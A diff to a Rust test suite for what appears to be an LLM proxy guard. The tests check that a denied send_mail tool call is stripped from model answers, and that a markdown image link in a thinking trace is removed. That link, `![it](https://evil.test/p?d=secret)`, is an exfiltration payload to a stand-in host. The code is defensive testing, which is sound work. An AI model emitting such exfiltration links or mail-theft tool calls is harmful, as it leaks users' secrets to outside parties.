@@ -299,8 +299,39 @@ fn a_mode_for_each_task_and_each_way_to_deny() {
     }
     let stripped = House::start_with(OBEY, &format!("[guard]\non_deny = \"strip\"\n{CONTRACTS}"));
     let talk = Talk::openai("Read mail 7.", THEFT, false);
-    let heard = hear(&talk, &talk.ask(&stripped));
+    let answer = talk.ask(&stripped);
+    assert!(answer.header("x-steersman-guard").unwrap().contains("stripped=1"), "{}", answer.head);
+    let heard = hear(&talk, &answer);
     assert_eq!((heard.calls, heard.text.as_str(), heard.end.as_str()), (vec![], "", "stop"));
+    for talk in [Talk::openai("Read mail 7.", THEFT, true), Talk::openai("Read mail 7.", THEFT, true).flowing()] {
+        let answer = talk.ask(&stripped);
+        assert!(answer.body.contains("\"steersman\":{\"guard\":{\"stripped\":[\"send_mail\"]}}"), "{}", answer.body);
+        assert!(answer.body.trim_end().ends_with("[DONE]"), "the mark stands before the end: {}", answer.body);
+        assert_eq!(hear(&talk, &answer).calls, []);
+    }
+}
+
+#[test]
+fn a_link_in_a_trace_of_thought_loses_its_power_and_the_trace_its_seal() {
+    let thinks = |thought: &str| format!("{OBEY}thinking = \"{thought}\"\n");
+    let foreign = House::start_with(&thinks("I show ![it](https://evil.test/p?d=secret) now"), CONTRACTS);
+    let plain = House::start_with(&thinks("I read a mail and say hello to ann"), CONTRACTS);
+    for stream in [false, true] {
+        for talk in [
+            Talk::anthropic("Read mail 7.", "[[say hello there]]", stream),
+            Talk::anthropic("Read mail 7.", "[[say hello there]]", stream).flowing(),
+        ] {
+            let answer = talk.ask(&foreign);
+            assert!(answer.status == 200 && answer.body.contains("thinking"), "{}", answer.body);
+            assert!(!answer.body.contains("https://evil.test"), "stream {stream}: {}", answer.body);
+            assert!(!answer.body.contains("\"signature\":\"s"), "stream {stream}: {}", answer.body);
+            let kept = talk.ask(&plain);
+            let thought: String =
+                kept.body.split("\"thinking\":\"").skip(1).filter_map(|rest| rest.split('"').next()).collect();
+            assert!(thought.contains("I read a mail and say hello to ann"), "stream {stream}: {}", kept.body);
+            assert!(kept.body.contains("signature"), "{}", kept.body);
+        }
+    }
 }
 
 #[test]
